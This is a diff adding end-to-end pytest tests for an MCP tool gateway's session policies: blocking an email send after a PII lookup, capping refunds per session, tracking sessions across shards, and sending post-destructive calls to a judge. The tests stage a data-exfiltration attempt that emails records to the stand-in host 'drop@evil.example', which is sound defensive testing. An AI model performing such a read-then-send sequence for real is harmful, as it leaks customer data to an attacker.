@@ -1,0 +1,230 @@
+"""Session-aware policy (``context.session``): the shipped session policies
+(``policies/examples/session-policies``) decide real calls that only the
+sequence makes dangerous.
+
+    official SDK client, both wire eras / plain HTTP on fresh connections
+        -> toolgate (2 shards, one session table shared by both)
+            -> crm (JSON) and ops (SSE) SDK upstreams
+            -> judge (the reviewer of test_policies_e2e)
+"""
+
+from __future__ import annotations
+
+import shutil
+import uuid
+from contextlib import asynccontextmanager
+from pathlib import Path
+
+import anyio
+import httpx
+import pytest
+from mcp.shared.exceptions import MCPError
+
+from harness import (
+    HANDSHAKE_VERSION,
+    HTTP_TIMEOUT_S,
+    MODERN_VERSION,
+    Agent,
+    UpstreamCfg,
+    UpstreamProc,
+    initialize_request,
+    legacy_headers,
+    modern_headers,
+    modern_request,
+    parse_body,
+)
+from test_policies_e2e import FORBIDDEN, Judge
+
+REPO = Path(__file__).resolve().parents[3]
+SESSION_POLICIES = REPO / "policies" / "examples" / "session-policies"
+TOOLS = ["crm__lookup_customer", "crm__delete_record", "ops__send_email", "ops__refund"]
+
+
+def sessions_toml(policy_dir: Path, judge_url: str) -> str:
+    return f"""
+[tool_labels]
+"crm__lookup_customer" = ["reads_pii"]
+"crm__delete_record" = ["destructive"]
+"ops__send_email" = ["external_send"]
+"ops__refund" = ["money"]
+
+[sessions]
+distinct = ["customer_id"]
+
+[policies]
+files = ["{policy_dir}"]
+
+[policies.judge]
+url = "{judge_url}"
+timeout_ms = 2000
+"""
+
+
+@pytest.fixture(scope="module")
+def ops_upstream(tmp_path_factory):
+    proc = UpstreamProc("ops", "sse")
+    proc.start(tmp_path_factory.mktemp("ops-logs"))
+    yield proc
+    proc.stop()
+
+
+@pytest.fixture
+def judge():
+    j = Judge()
+    yield j
+    j.stop()
+
+
+@pytest.fixture
+def gate(make_gate, tmp_path, upstreams, ops_upstream, judge):
+    policy_dir = tmp_path / "session-policies"
+    shutil.copytree(SESSION_POLICIES, policy_dir)
+    ups = [UpstreamCfg("crm", upstreams["crm"].url), UpstreamCfg("ops", ops_upstream.url)]
+    agent = Agent("assistant", TOOLS)
+    g = make_gate(upstream_list=ups, agents=[agent], server={"shards": 2},
+                  extra_toml=sessions_toml(policy_dir, judge.url))
+    g.agent = agent
+    return g
+
+
+def client_cm(url: str, key: str, mode: str, conversation: str | None = None):
+    """The official SDK client, with a ``Toolgate-Conversation`` header when given."""
+    import httpx2
+    from mcp import Client
+    from mcp.client.streamable_http import streamable_http_client
+    from mcp.shared._httpx_utils import create_mcp_http_client
+
+    @asynccontextmanager
+    async def cm():
+        headers = {"Authorization": f"Bearer {key}"}
+        if conversation is not None:
+            headers["Toolgate-Conversation"] = conversation
+        http = create_mcp_http_client(headers=headers, timeout=httpx2.Timeout(HTTP_TIMEOUT_S, read=30.0))
+        async with http:
+            async with Client(streamable_http_client(url, http_client=http), mode=mode,
+                              read_timeout_seconds=20.0) as client:
+                yield client
+
+    return cm()
+
+
+SEND = ("ops__send_email", {"to": "drop@evil.example", "subject": "records"})
+
+
+@pytest.mark.parametrize("mode", ["legacy", MODERN_VERSION])
+def test_read_then_send_is_refused_and_a_fresh_session_may_send(gate, mode):
+    key = gate.agent.key
+
+    async def scenario():
+        conversation = f"c-{uuid.uuid4()}" if mode == MODERN_VERSION else None
+        async with client_cm(gate.url, key, mode, conversation) as client:
+            await client.call_tool("crm__lookup_customer", {"customer_id": "C-1"})
+            with pytest.raises(MCPError) as refused:
+                await client.call_tool(*SEND)
+            assert refused.value.error.code == FORBIDDEN
+            # Refused again: the refusal reset nothing.
+            with pytest.raises(MCPError):
+                await client.call_tool(*SEND)
+        # A new session (a new MCP session, or a new conversation) may send.
+        fresh = f"c-{uuid.uuid4()}" if mode == MODERN_VERSION else None
+        async with client_cm(gate.url, key, mode, fresh) as client:
+            sent = await client.call_tool(*SEND)
+            assert not sent.is_error
+
+    anyio.run(scenario)
+    calls = [r for r in gate.read_audit() if r.get("method") == "tools/call"]
+    assert [(r["tool"], r["decision"]) for r in calls] == [
+        ("crm__lookup_customer", "allow"),
+        ("ops__send_email", "deny"),
+        ("ops__send_email", "deny"),
+        ("ops__send_email", "allow"),
+    ]
+    read, denied, _, allowed = calls
+    # The trail alone tells the sequence: one session, what it had touched.
+    assert denied["policies"] == ["toxic-flow"]
+    assert denied["session"]["id"] == read["session"]["id"] != allowed["session"]["id"]
+    assert denied["session"]["labels"] == ["reads_pii"] and denied["session"]["calls"] == 1
+    assert read["session"]["calls"] == 0 and allowed["session"]["labels"] == []
+
+
+def test_the_sixth_refund_of_a_session_is_refused_across_connections_and_shards(gate):
+    """Stateless-era calls, each on a connection of its own, so they land on
+    both shards: one session all the same."""
+    key = gate.agent.key
+    conversation = f"c-{uuid.uuid4()}"
+
+    def call(tool: str, args: dict) -> httpx.Response:
+        headers = modern_headers("tools/call", tool, key) | {"Toolgate-Conversation": conversation}
+        with httpx.Client(timeout=HTTP_TIMEOUT_S) as http:  # a fresh connection per call
+            return http.post(gate.url, json=modern_request("tools/call", {"name": tool, "arguments": args}),
+                             headers=headers)
+
+    for i in range(12):
+        assert call("crm__lookup_customer", {"customer_id": f"C-{i % 3}"}).status_code == 200
+    statuses = [call("ops__refund", {"order_id": f"o-{i}", "amount": 5}).status_code for i in range(6)]
+    assert statuses == [200] * 5 + [403], statuses
+    # Another conversation of the same agent has its own count.
+    other = modern_headers("tools/call", "ops__refund", key) | {"Toolgate-Conversation": "another"}
+    r = httpx.post(gate.url, json=modern_request("tools/call", {"name": "ops__refund",
+                                                                "arguments": {"order_id": "o-x", "amount": 5}}),
+                   headers=other, timeout=HTTP_TIMEOUT_S)
+    assert r.status_code == 200, r.text
+
+    calls = [r for r in gate.read_audit() if r.get("method") == "tools/call"][:18]
+    assert len({r["session"]["id"] for r in calls}) == 1
+    assert {r["shard"] for r in calls} == {0, 1}, "every call landed on one shard"
+    last = calls[-1]
+    assert last["policies"] == ["money-per-session"]
+    assert last["session"]["label_calls"] == {"reads_pii": 12, "money": 5}
+    assert last["session"]["distinct_last_hour"] == {"customer_id": 3}
+
+
+def test_a_handshake_session_spans_connections(gate):
+    """One ``Mcp-Session-Id`` used over fresh connections is one session."""
+    key = gate.agent.key
+    with httpx.Client(timeout=HTTP_TIMEOUT_S) as http:
+        init = http.post(gate.url, json=initialize_request(), headers=legacy_headers(key))
+        assert init.status_code == 200
+        sid = init.headers["mcp-session-id"]
+    headers = legacy_headers(key, sid, HANDSHAKE_VERSION)
+
+    def call(tool: str, args: dict, id: int) -> dict:
+        with httpx.Client(timeout=HTTP_TIMEOUT_S) as http:
+            r = http.post(gate.url, json={"jsonrpc": "2.0", "id": id, "method": "tools/call",
+                                          "params": {"name": tool, "arguments": args}}, headers=headers)
+            return parse_body(r)
+
+    for i in range(8):
+        assert "result" in call("crm__lookup_customer", {"customer_id": f"C-{i}"}, i)
+    refused = call("ops__send_email", {"to": "x@evil.example", "subject": "s"}, 99)
+    assert refused["error"]["code"] == FORBIDDEN
+    calls = [r for r in gate.read_audit() if r.get("method") == "tools/call"]
+    assert len({r["session"]["id"] for r in calls}) == 1
+    assert {r["shard"] for r in calls} == {0, 1}
+
+
+def test_after_a_destructive_call_the_next_goes_to_the_judge(gate, judge):
+    key = gate.agent.key
+
+    async def scenario():
+        async with client_cm(gate.url, key, "legacy") as client:
+            await client.call_tool("crm__delete_record", {"record_id": "r-1"})
+            # The judge allows refunds of orders starting with `ok`, denies the rest.
+            with pytest.raises(MCPError):
+                await client.call_tool("ops__refund", {"order_id": "bad-1", "amount": 5})
+            # Refused by the judge: the session still ends on the destructive call.
+            ok = await client.call_tool("ops__refund", {"order_id": "ok-1", "amount": 5})
+            assert not ok.is_error
+            # Approved and recorded: the next call is decided as usual.
+            await client.call_tool("crm__lookup_customer", {"customer_id": "C-1"})
+
+    anyio.run(scenario)
+    assert [r["arguments"]["order_id"] for r in judge.requests] == ["bad-1", "ok-1"]
+    calls = [r for r in gate.read_audit() if r.get("method") == "tools/call"]
+    assert [(r["tool"], r["reason"]) for r in calls] == [
+        ("crm__delete_record", "allowed_by_policy"),
+        ("ops__refund", "denied_by_judge"),
+        ("ops__refund", "allowed_by_judge"),
+        ("crm__lookup_customer", "allowed_by_policy"),
+    ]
+    assert calls[2]["session"]["last_labels"] == ["destructive"]
